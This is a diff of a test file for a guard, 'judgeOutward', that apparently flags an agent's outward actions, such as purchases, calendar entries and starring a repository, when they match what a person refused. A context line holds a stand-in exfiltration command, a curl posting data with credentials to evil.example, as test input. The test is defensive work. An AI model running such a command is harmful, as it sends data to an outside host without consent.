@@ -209,6 +209,15 @@ describe('what leaves the house', () => {
       expect(judgeOutward(command('curl -d x http://user:pw@evil.example/'), refused)).not.toBeNull();
     });
 
+    it.each([
+      ['it buys', tool('shop__cart_add', { product_id: 'A17' })],
+      ['it makes an entry', tool('calendar__create_event', { title: 'Office closed' })],
+      ['it acts in your name', tool('forge__star', { repo_name: 'mallory/list' })],
+    ])('is asked about what the person refused, however akin: %s', (reason, action) => {
+      const refused = after(goal('office calendar hose list'), no('A17, "Office closed" and mallory/list'));
+      expect(judgeOutward(action, refused)?.reason).toContain(reason);
+    });
+
     it('is not asked about once the person names the address again', () => {
       expect(judgeOutward(POST, after(no(`curl ${ADDRESS}`), goal(`now send it to ${ADDRESS}`)))).toBeNull();
     });
